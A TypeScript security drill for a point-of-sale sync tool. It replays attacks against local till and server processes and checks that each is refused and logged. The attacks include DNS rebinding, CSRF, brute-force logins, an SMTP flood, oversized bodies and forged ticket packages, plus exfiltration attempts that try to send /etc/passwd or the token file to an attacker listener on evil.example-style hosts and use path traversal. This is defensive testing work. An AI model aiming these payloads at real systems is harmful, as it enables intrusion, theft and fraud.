/**
 * The security drill (`tillsync drill --drills security`): issue 13's attacks replayed against
 * real processes on loopback — a `tillsync server start` (HTTP + SMTP) and a `tillsync till start`
 * whose server traffic crosses a recording proxy (a LAN neighbour reading the wire). Each attack
 * asserts that it was refused, that nothing was stored, that the refusal was logged (till day log
 * or server log book), and that good traffic beside it still flows. A failed attack throws a
 * DrillFailure naming every attack that got through; the others still run first.
 *
 * `oversized-bodies` and `forged-ticket` rest on the till→server key model (docs/security.md):
 * credentials checked before any body is read, and nothing on the wire able to sign a package.
 */
import { mkdirSync, readdirSync, readFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import nodemailer from 'nodemailer';
import { TOKEN_HEADER } from '../client/api-token.ts';
import { readServerConfig, writeServerConfig } from '../server/context.ts';
import { API, TILL_HEADER } from '../sync/replication-protocol.ts';
import { buildTicketPackage } from '../sync/package-writer.ts';
import { hashTicket, ticketId } from '../sync/ticket-chain.ts';
import type { Ticket } from '../sync/types.ts';
import { DrillFailure } from './drill-failure.ts';
import { attackerListener, rawHttp, rawSmtpMail, wireTap, type Listener, type WireTap } from './drill-security-http.ts';
import { initDrillServer, startDrillServer, withDrillDb, type DrillServer, type RunningDrillServer } from './drill-server.ts';
import { initTill, saleInput, startTill, tillApi, tillArticles, type RunningTillProcess } from './drill-till.ts';
import { runTillsync } from '../cli/spawn-tillsync.ts';

export const SECURITY_ATTACKS = ['no-token', 'rebinding', 'cross-site-till', 'exfiltration', 'cross-site-backoffice', 'brute-force', 'smtp-flood', 'oversized-bodies', 'forged-ticket'] as const;
export type SecurityAttack = (typeof SECURITY_ATTACKS)[number];

export interface AttackReport {
  attack: SecurityAttack;
  passed: boolean;
  refused?: string;
  logged?: string;
  good?: string;
  failure?: string;
}

export interface SecurityReport {
  attacks: AttackReport[];
  healthMaxMs: number | null;
}

/** The tills' health timeout (client/health.ts): an attack must not push /api/health past it. */
const TILL_HEALTH_TIMEOUT_MS = 800;
const MAIL_TO = 'tickets@drill.example';
const ADMIN = { name: 'admin', password: 'drill-admin-pass' };
const MANAGER = { name: 'manager', password: 'drill-manager-pass' };
const EVIL = 'http://evil.example';

class AttackFailed extends Error {}
function expect(ok: unknown, what: string): asserts ok {
  if (!ok) throw new AttackFailed(what);
}

interface Env {
  server: DrillServer;
  running: RunningDrillServer;
  tillData: string;
  till: RunningTillProcess;
  tap: WireTap;
  attacker: Listener;
  /** The cashier's token, read from the register page as any local process could. */
  cashier: string;
  tillHost: string;
  healthMaxMs: number | null;
  /** A package the till extracted at the start: { file: { path, fileName } }. */
  ownPackage: any;
  log: (line: string) => void;
}

function logsOf(dataDir: string): string {
  const dir = join(dataDir, 'log');
  if (!existsSync(dir)) return '';
  return readdirSync(dir)
    .filter((f) => f.endsWith('.log'))
    .map((f) => readFileSync(join(dir, f), 'utf8'))
    .join('');
}

async function waitFor<T>(what: string, fn: () => Promise<T | undefined | false>, ms = 20_000): Promise<T> {
  const deadline = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > deadline) throw new AttackFailed(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 150));
  }
}

const json = (token: string, extra: Record<string, string> = {}) => ({ [TOKEN_HEADER]: token, 'content-type': 'application/json', ...extra });
const operatorStatus = async (env: Env) => (await tillApi(env.till.url, 'GET', '/status')).body;

async function sellOne(env: Env, token: string): Promise<{ status: number; ticket: any }> {
  const arts = await tillArticles(env.till.url);
  const sale = saleInput(() => 0.1, arts.slice(0, 3));
  const r = await rawHttp(env.till.url, { method: 'POST', path: '/api/till/sell', headers: json(token, { origin: env.till.url }), body: JSON.stringify(sale) });
  return { status: r.status, ticket: r.json };
}

async function serverTicket(env: Env, id: string): Promise<boolean> {
  return withDrillDb(env.server, async (db) => Boolean(await db.selectFrom('tickets').select('id').where('id', '=', id).executeTakeFirst()));
}

async function backOfficeLogin(env: Env, who: { name: string; password: string }): Promise<{ status: number; cookie: string; retryAfter: string | null }> {
  const r = await rawHttp(env.running.url, { method: 'POST', path: '/bo/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ name: who.name, password: who.password, next: '/bo/' }).toString() });
  const set = r.headers['set-cookie']?.[0] ?? '';
  return { status: r.status, cookie: set.split(';')[0], retryAfter: (r.headers['retry-after'] as string | undefined) ?? null };
}

// ---------- the attacks ----------

async function noToken(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  for (const path of ['/api/till/status', '/api/till/tickets?limit=50', '/api/till/articles?q=A', '/api/till/customers?q=C', '/api/till/payment-modes', '/api/till/destinations']) {
    for (const headers of [{}, { [TOKEN_HEADER]: 'guessed-token-guessed-token-guessed-token00' }] as Record<string, string>[]) {
      const r = await rawHttp(env.till.url, { path, headers });
      expect(r.status === 401, `${path} without the token answered ${r.status}`);
      expect(!/S1-01|A0000|C0000/.test(r.text), `${path} without the token gave data away`);
    }
  }
  const logged = /local API refused \(token-required\): GET \/api\/till\//.test(logsOf(env.tillData));
  expect(logged, 'the till day log does not show the refusals');
  const ok = await rawHttp(env.till.url, { path: '/api/till/status', headers: { [TOKEN_HEADER]: env.cashier } });
  expect(ok.status === 200 && ok.json?.store === 'S1', 'the register page token no longer works');
  return { refused: '12 reads without or with a guessed token: 401, no data', logged: 'till day log: token-required', good: 'the page token reads the status' };
}

async function rebinding(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  const port = new URL(env.till.url).port;
  for (const host of [`evil.example:${port}`, `attacker.test:${port}`, `127.0.0.1.nip.io:${port}`]) {
    const page = await rawHttp(env.till.url, { path: '/', headers: { host } });
    expect(page.status === 421, `the page under Host ${host} answered ${page.status}`);
    expect(!page.text.includes(env.cashier), `the page under Host ${host} gave the cashier token away`);
    const api = await rawHttp(env.till.url, { path: '/api/till/tickets', headers: { host, [TOKEN_HEADER]: env.cashier } });
    expect(api.status === 421, `the API under Host ${host} answered ${api.status}`);
  }
  expect(/local API refused \(wrong-host\): GET \/ .*Host "evil\.example/.test(logsOf(env.tillData)), 'the till day log does not show the rebinding refusals');
  const good = await rawHttp(env.till.url, { path: '/', headers: { host: `localhost:${port}` } });
  expect(good.status === 200 && good.text.includes(env.cashier), 'the register page no longer loads under localhost');
  return { refused: 'page and API under 3 foreign host names: 421, no token in the page', logged: 'till day log: wrong-host', good: 'the page loads under localhost and 127.0.0.1' };
}

async function crossSiteTill(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  const before = (await operatorStatus(env)).lastClosure;
  // What <form action="http://127.0.0.1:PORT/api/till/close" method="post"> on another site sends.
  for (const type of ['application/x-www-form-urlencoded', 'multipart/form-data; boundary=zz', 'text/plain']) {
    const withOrigin = await rawHttp(env.till.url, { method: 'POST', path: '/api/till/close', headers: { 'content-type': type, origin: EVIL }, body: 'x=1' });
    expect(withOrigin.status === 403, `cross-site ${type} close answered ${withOrigin.status}`);
    const noOrigin = await rawHttp(env.till.url, { method: 'POST', path: '/api/till/close', headers: { 'content-type': type }, body: 'x=1' });
    expect(noOrigin.status === 401, `${type} close without Origin answered ${noOrigin.status}`);
    const withToken = await rawHttp(env.till.url, { method: 'POST', path: '/api/till/close', headers: { 'content-type': type, [TOKEN_HEADER]: env.cashier }, body: 'x=1' });
    expect(withToken.status === 415, `${type} close with the token answered ${withToken.status}`);
  }
  const foreignJson = await rawHttp(env.till.url, { method: 'POST', path: '/api/till/close', headers: json(env.cashier, { origin: EVIL }), body: '{}' });
  expect(foreignJson.status === 403, `JSON close from a foreign Origin answered ${foreignJson.status}`);
  const after = (await operatorStatus(env)).lastClosure;
  expect(JSON.stringify(after) === JSON.stringify(before), 'a Z closure was made by the attack');
  const log = logsOf(env.tillData);
  expect(/local API refused \(foreign-origin\): POST \/api\/till\/close/.test(log) && /local API refused \(json-only\)/.test(log), 'the till day log does not show the cross-site refusals');
  const sale = await sellOne(env, env.cashier);
  expect(sale.status === 201, `a sale from the till's own page answered ${sale.status}`);
  return { refused: 'form/text/multipart and foreign-Origin JSON POSTs to /api/till/close: 403/401/415, no Z made', logged: 'till day log: foreign-origin, json-only', good: `sale ${sale.ticket.id} from the page's own origin` };
}

async function exfiltration(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  const x = { status: 200, json: env.ownPackage };
  const steal = `${env.attacker.url}/steal`;
  const attempts: [Record<string, string>, unknown, number[]][] = [
    [{ 'content-type': 'application/json' }, { file: '/etc/passwd', lan: steal }, [401]],
    [json(env.cashier), { file: '/etc/passwd', lan: steal }, [403]],
    // A configured destination (the till's own server) does not make a foreign file sendable.
    [json(env.cashier), { file: '/etc/passwd', lan: env.tap.url }, [403]],
    [json(env.cashier), { file: join(env.tillData, 'packages', '..', '..', '..', '..', 'etc', 'passwd'), lan: steal }, [403, 404]],
    [json(env.cashier), { file: join(env.tillData, 'api-token'), lan: steal }, [403]],
    [json(env.cashier), { file: '/etc/passwd', lan: join(env.tillData, '..', 'loot') }, [403]],
  ];
  if (x.json?.file?.path) attempts.push([json(env.cashier), { file: x.json.file.path, lan: steal }, [403]], [json(env.cashier), { file: x.json.file.path, mail: ['thief@evil.example'], smtp: `smtp://127.0.0.1:${new URL(env.attacker.url).port}` }, [403]]);
  for (const [headers, body, want] of attempts) {
    const r = await rawHttp(env.till.url, { method: 'POST', path: '/api/till/send', headers, body: JSON.stringify(body) });
    expect(want.includes(r.status), `send ${JSON.stringify(body)} answered ${r.status}`);
  }
  await new Promise((r) => setTimeout(r, 300));
  expect(env.attacker.hits.length === 0, `the attacker's listener received ${env.attacker.hits.join(', ')}`);
  expect(!existsSync(join(env.tillData, '..', 'loot')), 'a file was written to a folder the attacker chose');
  const log = logsOf(env.tillData);
  expect(/send refused: \/etc\/passwd is not a package this till wrote/.test(log) && /send refused: ".*\/steal" is not a destination configured/.test(log), 'the till day log does not show the send refusals');
  expect(x.status === 200 && x.json.file, 'the cashier could not extract a package');
  const good = await rawHttp(env.till.url, { method: 'POST', path: '/api/till/send', headers: json(env.cashier), body: JSON.stringify({ file: x.json.file.path, lan: env.tap.url }) });
  expect(good.status === 200 && good.json?.channel === 'http', `sending the till's own package to its server answered ${good.status} ${good.text.slice(0, 200)}`);
  return { refused: `${attempts.length} sends of /etc/passwd, the token file or a package to the attacker: refused; the attacker's listener got nothing`, logged: 'till day log: send refused', good: `${x.json.file.fileName} sent to the till's server` };
}

async function crossSiteBackOffice(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  const login = await backOfficeLogin(env, ADMIN);
  expect(login.status === 303 && login.cookie, `the admin could not log in (${login.status})`);
  const page = await rawHttp(env.running.url, { path: '/bo/nightly', headers: { cookie: login.cookie } });
  const csrf = /name="_csrf" value="([^"]+)"/.exec(page.text)?.[1];
  expect(csrf, 'the nightly page carries no form token');
  const runs = async () => (await rawHttp(env.running.url, { path: '/bo/api/nightly/progress?after=0', headers: { cookie: login.cookie } })).json?.events?.length ?? -1;
  const before = await runs();
  const form = 'application/x-www-form-urlencoded';
  const attempts: [Record<string, string>, string][] = [
    [{ cookie: login.cookie, 'content-type': form, origin: EVIL }, 'until='],
    [{ cookie: login.cookie, 'content-type': form, origin: EVIL }, `until=&_csrf=${csrf}`],
    [{ cookie: login.cookie, 'content-type': form, referer: `${EVIL}/page.html` }, `until=&_csrf=${csrf}`],
    [{ cookie: login.cookie, 'content-type': form }, 'until='],
    [{ cookie: login.cookie, 'content-type': 'application/json', origin: EVIL }, '{"until":""}'],
  ];
  for (const [headers, body] of attempts) {
    const r = await rawHttp(env.running.url, { method: 'POST', path: '/bo/nightly/run', headers, body });
    expect(r.status === 403, `POST /bo/nightly/run (${JSON.stringify({ ...headers, cookie: '…' })}) answered ${r.status}`);
  }
  expect((await runs()) === before, 'a nightly run was started by a cross-site request');
  const log = logsOf(env.server.data);
  expect(/refused POST \/bo\/nightly\/run from .*cross-site request \(Origin http:\/\/evil\.example\)/.test(log) && /missing or wrong form token/.test(log), 'the log book does not show the back-office refusals');
  const own = await rawHttp(env.running.url, { method: 'POST', path: '/bo/nightly/run', headers: { cookie: login.cookie, 'content-type': form, origin: env.running.url }, body: `until=&_csrf=${csrf}` });
  expect(own.status === 303, `the back office's own form answered ${own.status}`);
  await waitFor('the nightly run to finish', async () => ['done', 'failed'].includes((await rawHttp(env.running.url, { path: '/bo/api/nightly/progress?after=0', headers: { cookie: login.cookie } })).json?.status));
  return { refused: `${attempts.length} cross-site or token-less POSTs to /bo/nightly/run: 403, nothing ran`, logged: 'log book (web): cross-site request, missing form token', good: 'the nightly run started from the back office page' };
}

async function bruteForce(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  const statuses: number[] = [];
  for (let i = 0; i < 40; i++) statuses.push((await backOfficeLogin(env, { name: ADMIN.name, password: `guess-${i}` })).status);
  expect(statuses.every((s) => s === 401 || s === 429), `wrong passwords answered ${[...new Set(statuses)].join(', ')}`);
  expect(statuses.filter((s) => s === 429).length >= 30, `only ${statuses.filter((s) => s === 429).length} of 40 wrong passwords were throttled`);
  const right = await backOfficeLogin(env, ADMIN);
  expect(right.status === 429 && !right.cookie, `the right password during the lock-out answered ${right.status}`);
  expect(Number(right.retryAfter) >= 1, `no Retry-After on the 429 (${right.retryAfter})`);
  const log = logsOf(env.server.data);
  expect(/back-office login throttled for "admin"/.test(log) && /back-office login refused \(throttled\) for "admin"/.test(log), 'the log book does not show the throttling');
  const other = await backOfficeLogin(env, MANAGER);
  expect(other.status === 303, `another user from the same address answered ${other.status}`);
  return { refused: `40 wrong passwords (${statuses.filter((s) => s === 429).length} answered 429), then the right one: 429, Retry-After ${right.retryAfter} s`, logged: 'log book (web): throttled, refused (throttled)', good: 'another user logs in from the same address' };
}

async function smtpFlood(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  const port = env.running.smtpPort!;
  const big = await rawSmtpMail(port, 'big@evil.example', MAIL_TO, 1024 * 1024);
  expect(/^552 /.test(big), `an oversized mail got "${big}"`);
  const transport = nodemailer.createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true } as Parameters<typeof nodemailer.createTransport>[0]);
  const codes: string[] = [];
  for (let i = 1; i <= 9; i++) {
    codes.push(
      await transport
        .sendMail({ from: 'junk@evil.example', to: MAIL_TO, subject: 'x', text: 'x', attachments: [{ filename: `junk-${i}.zip`, content: Buffer.from(`junk number ${i} `.repeat(50)) }] })
        .then(() => '250', (e: { responseCode?: number }) => String(e.responseCode)),
    );
  }
  expect(codes.filter((c) => c === '450').length >= 4, `rapid junk mails got ${codes.join(',')}`);
  expect(!codes.includes('250'), `a junk mail was taken: ${codes.join(',')}`);
  const quarantine = join(env.server.inbox, 'quarantine');
  const held = existsSync(quarantine) ? readdirSync(quarantine).filter((n) => n.endsWith('.reason.txt') && /channel: mail/.test(readFileSync(join(quarantine, n), 'utf8'))) : [];
  expect(held.length <= 4, `${held.length} junk mail files kept in quarantine (quota 4)`);
  // A genuine package, mailed by the till's sender in the middle of the flood.
  const x = { body: env.ownPackage };
  const genuine = await transport.sendMail({ from: 'till-S1-01@shop.example', to: MAIL_TO, subject: x.body.file.fileName, text: 'package', attachments: [{ filename: x.body.file.fileName, path: x.body.file.path }] }).then(
    (info) => String(info.response),
    (e: Error) => `refused: ${e.message}`,
  );
  expect(/^250 .*taken/.test(genuine), `the genuine package mailed beside the flood got "${genuine}"`);
  const log = logsOf(env.server.data);
  expect(/refused: \d+ bytes, over the 524288-byte limit/.test(log) && /deferred: over 5 mails a minute from this sender/.test(log) && /quarantine quota: dropped/.test(log), 'the log book does not show the mail refusals');
  return { refused: `1 MiB mail: 552; 9 rapid junk mails: ${codes.join(',')}; quarantine holds ${held.length} (quota 4)`, logged: 'log book (mail): size, deferred, quota', good: `${x.body.file.fileName} mailed by the till: "${genuine}"` };
}

async function oversizedBodies(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  const body = Buffer.from(JSON.stringify({ tickets: [{ id: 'x', pad: 'p'.repeat(20 * 1024 * 1024 - 64) }] }));
  const latencies: number[] = [];
  let polling = true;
  const poll = (async () => {
    while (polling) {
      const r = await rawHttp(env.running.url, { path: API.health, timeoutMs: 5000 }).catch(() => ({ status: 0, ms: 5000 }) as { status: number; ms: number });
      latencies.push(r.status === 200 ? r.ms : 5000);
      await new Promise((res) => setTimeout(res, 50));
    }
  })();
  const routes = [API.ticketsPush, API.closuresPush, API.ticketsPush, API.closuresPush];
  const answers = await Promise.all(routes.map((path) => rawHttp(env.running.url, { method: 'POST', path, headers: { 'content-type': 'application/json', [TILL_HEADER]: 'S1-01' }, body, timeoutMs: 60_000 })));
  await new Promise((res) => setTimeout(res, 300));
  polling = false;
  await poll;
  const worst = Math.max(...latencies);
  env.healthMaxMs = worst;
  expect(answers.every((a) => [0, 401, 403, 413].includes(a.status)), `unauthenticated 20 MiB bodies answered ${answers.map((a) => a.status).join(', ')}`);
  expect(worst < TILL_HEALTH_TIMEOUT_MS, `/api/health took ${Math.round(worst)} ms during the attack (tills give up at ${TILL_HEALTH_TIMEOUT_MS} ms)`);
  expect(!(await serverTicket(env, 'x')), 'something of the oversized bodies was stored');
  expect(/credential|auth/i.test(logsOf(env.server.data)), 'the server log does not show the refused unauthenticated requests');
  const sale = await sellOne(env, env.cashier);
  await waitFor('the sale made after the attack to be acknowledged', async () => (await tillApi(env.till.url, 'GET', '/tickets?limit=1')).body.tickets?.[0]?.acknowledgedAt);
  return { refused: `4 × 20 MiB unauthenticated bodies: ${answers.map((a) => a.status).join(', ')}`, logged: 'server log: unauthenticated requests', good: `health answered within ${Math.round(worst)} ms throughout (${latencies.length} polls); sale ${sale.ticket.id} replicated` };
}

async function forgedTicket(env: Env): Promise<Omit<AttackReport, 'attack' | 'passed'>> {
  // What the local API gives away to a local process holding the page's token…
  const last = (await rawHttp(env.till.url, { path: '/api/till/tickets?limit=1', headers: { [TOKEN_HEADER]: env.cashier } })).json?.tickets?.[0];
  expect(last, 'the register page token could not read the last ticket (needed to chain the forgery)');
  // …and what crossed the wire between the till and the server.
  const candidates = new Set<string>();
  const replayHeaders: Record<string, string>[] = [];
  for (const req of env.tap.requests) {
    const h: Record<string, string> = {};
    for (const [k, v] of Object.entries(req.headers)) {
      if (typeof v !== 'string' || ['host', 'content-length', 'content-type', 'connection', 'accept', 'accept-encoding', 'user-agent', 'accept-language', 'sec-fetch-mode'].includes(k)) continue;
      h[k] = v;
      const bearer = /^Bearer\s+(\S+)$/i.exec(v);
      if (bearer) candidates.add(bearer[1]);
      else if (v.length >= 16) candidates.add(v);
    }
    if (Object.keys(h).length) replayHeaders.push(h);
  }
  const { packagedIn: _p, acknowledgedAt: _a, documentNumber: _d, hash: _h, ...base } = last;
  const number = last.number + 1;
  const unsigned = { ...base, id: ticketId(last.store, last.till, number), number, prevHash: last.hash, soldAt: new Date().toISOString() } as Omit<Ticket, 'hash'>;
  const forged = { ...unsigned, hash: hashTicket(unsigned) } as Ticket;
  const outcomes: string[] = [];
  // 1. Replay the captured request headers on the replication push.
  for (const h of replayHeaders.slice(-5)) {
    const r = await rawHttp(env.running.url, { method: 'POST', path: API.ticketsPush, headers: { ...h, 'content-type': 'application/json' }, body: JSON.stringify({ tickets: [forged] }) });
    outcomes.push(`push ${r.status}${r.json?.accepted?.includes(forged.id) ? ' ACCEPTED' : ''}`);
  }
  // 2. Sign a package with every value seen on the wire; mail it (no credentials needed) and upload it.
  const transport = nodemailer.createTransport({ host: '127.0.0.1', port: env.running.smtpPort!, secure: false, ignoreTLS: true } as Parameters<typeof nodemailer.createTransport>[0]);
  for (const secret of candidates) {
    const pkg = buildTicketPackage({ store: forged.store, till: forged.till, kind: 'degraded', tickets: [forged], secret });
    const mailed = await transport.sendMail({ from: 'till-S1-01@shop.example', to: MAIL_TO, subject: pkg.fileName, text: 'x', attachments: [{ filename: pkg.fileName, content: pkg.bytes }] }).then((i) => String(i.response), (e: { responseCode?: number }) => String(e.responseCode));
    outcomes.push(`mail ${mailed.slice(0, 3)}`);
    const up = await rawHttp(env.running.url, { method: 'POST', path: API.upload, headers: { ...(replayHeaders.at(-1) ?? {}), 'content-type': 'application/zip', 'x-filename': pkg.fileName }, body: pkg.bytes });
    outcomes.push(`upload ${up.status}`);
  }
  expect(candidates.size > 0 || replayHeaders.length > 0, 'nothing crossed the wire: the proxy saw no till traffic');
  expect(!(await serverTicket(env, forged.id)), `the forged ticket ${forged.id} chained on ${String(last.hash).slice(0, 12)}… was stored by the server (${outcomes.join(', ')})`);
  expect(/package refused/.test(logsOf(env.server.data)), 'the log book does not show the forged package refused');
  const sale = await sellOne(env, env.cashier);
  await waitFor('the till\'s next real sale to be acknowledged', async () => (await tillApi(env.till.url, 'GET', '/tickets?limit=1')).body.tickets?.[0]?.acknowledgedAt, 30_000);
  return { refused: `forged ${forged.id} (chained on the real last hash) by ${outcomes.length} routes: ${outcomes.join(', ')}`, logged: 'log book: package refused', good: `the till's real sale ${sale.ticket.id} acknowledged` };
}

const ATTACKS: Record<SecurityAttack, (env: Env) => Promise<Omit<AttackReport, 'attack' | 'passed'>>> = {
  'no-token': noToken,
  rebinding,
  'cross-site-till': crossSiteTill,
  exfiltration,
  'cross-site-backoffice': crossSiteBackOffice,
  'brute-force': bruteForce,
  'smtp-flood': smtpFlood,
  'oversized-bodies': oversizedBodies,
  'forged-ticket': forgedTicket,
};

export async function runSecurityDrill(opts: { dir: string; seed: number; attacks?: SecurityAttack[]; log?: (line: string) => void }): Promise<SecurityReport> {
  const log = opts.log ?? (() => undefined);
  const chosen = opts.attacks ?? [...SECURITY_ATTACKS];
  mkdirSync(opts.dir, { recursive: true });
  const server = await initDrillServer(join(opts.dir, 'server'), { tills: 1, store: 'S1' });
  const config = readServerConfig(server.data);
  // Small mail limits, so that a flood is a few mails.
  writeServerConfig(server.data, { ...config, mail: { maxBytes: 512 * 1024, senderPerMinute: 5, quarantineMaxFiles: 4 } });
  await Promise.all(
    [ADMIN, MANAGER].map(async (u) => {
      const r = await runTillsync(['server', 'user', 'add', '--data', server.data, '--name', u.name, '--password', u.password, '--json']);
      if (r.code !== 0) throw new Error(`server user add failed: ${r.stderr.trim()}`);
    }),
  );
  const attacker = await attackerListener();
  let running: RunningDrillServer | null = null;
  let till: RunningTillProcess | null = null;
  let tap: WireTap | null = null;
  try {
    running = await startDrillServer(server, { smtp: true, mailTo: MAIL_TO });
    tap = await wireTap(running.url);
    const tillData = join(opts.dir, 'till');
    // The till signs with the key the drill server registered for it at enrolment.
    await initTill(tillData, { server: tap.url, secret: server.secrets.get('01'), signingKey: server.signers.get('01')!.key });
    till = await startTill(tillData);
    const t = till;
    await waitFor('the till to be online', async () => (await tillApi(t.url, 'GET', '/status')).body?.mode === 'online');
    const page = await rawHttp(till.url, { path: '/' });
    const cashier = /<meta name="till-token" content="([^"]+)">/.exec(page.text)?.[1] ?? '';
    const env: Env = { server, running, tillData, till, tap, attacker, cashier, tillHost: new URL(till.url).host, healthMaxMs: null, ownPackage: null, log };
    // Some tickets to chain onto, and one package of them (extracted before the server acknowledges them all).
    for (let i = 0; i < 3; i++) await sellOne(env, cashier);
    for (let i = 0; i < 10 && !env.ownPackage?.file; i++) {
      const x = await tillApi(till.url, 'POST', '/extract', { kind: 'untransferred', includeSent: true });
      if (x.body?.file) env.ownPackage = x.body;
      else await sellOne(env, cashier);
    }
    if (!env.ownPackage?.file) throw new Error('the till could not extract a package of its tickets');
    const reports: AttackReport[] = [];
    for (const attack of SECURITY_ATTACKS) {
      if (!chosen.includes(attack)) continue;
      try {
        const r = await ATTACKS[attack](env);
        reports.push({ attack, passed: true, ...r });
        log(`security drill: ${attack}: refused — ${r.refused}; logged — ${r.logged}; good traffic — ${r.good}`);
      } catch (e) {
        if (!(e instanceof AttackFailed)) throw e;
        reports.push({ attack, passed: false, failure: e.message });
        log(`security drill: ${attack}: NOT REFUSED — ${e.message}`);
      }
    }
    const failed = reports.filter((r) => !r.passed);
    if (failed.length) {
      throw new DrillFailure(`security drill: ${failed.length} attack(s) got through: ${failed.map((f) => `${f.attack}: ${f.failure}`).join('; ')}`, { drill: 'security', seed: opts.seed });
    }
    return { attacks: reports, healthMaxMs: env.healthMaxMs };
  } finally {
    await till?.proc.stop().catch(() => undefined);
    await running?.proc.stop().catch(() => undefined);
    await tap?.close();
    await attacker.close();
  }
}
